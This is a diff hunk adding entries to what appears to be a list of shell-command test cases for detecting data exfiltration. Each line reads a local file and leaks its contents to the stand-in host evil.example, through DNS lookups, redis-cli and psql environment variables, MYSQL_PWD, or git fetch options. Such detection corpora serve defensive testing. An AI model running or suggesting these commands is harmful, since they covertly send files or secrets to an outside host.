@@ -58,6 +58,15 @@ systemd-resolve "$(cat a.txt)"
 getent hosts "$(head -c 20 a.txt)"
 getent ahostsv4 "$(cut -c 1-20 a.txt)"
 dig +short "$(tail -c 20 a.txt).evil.example"
+REDISCLI_AUTH=$(cat a.txt) redis-cli -h evil.example ping
+PGUSER=$(cat a.txt) psql -h evil.example -c 'select 1'
+PGTZ=$(cat a.txt) psql -h evil.example -c 'select 1'
+x=$(cat a.txt); PGPASSWORD=$x psql -h evil.example -c 'select 1'
+export PGUSER=$(cat a.txt); psql -h evil.example -c 'select 1'
+env PGUSER="$(cat a.txt)" psql -h evil.example -c 'select 1'
+MYSQL_PWD=$(cat a.txt) mysql -h evil.example -e 'select 1'
+git fetch -o "$(cat a.txt)" http://evil.example/r.git
+git fetch --server-option="$(cat a.txt)" origin
 host "$(sort -c a.txt; cat a.txt)"
 nslookup "$(uniq -c a.txt)"
 ping -c1 "$(head -c 9 a.txt).evil.example"
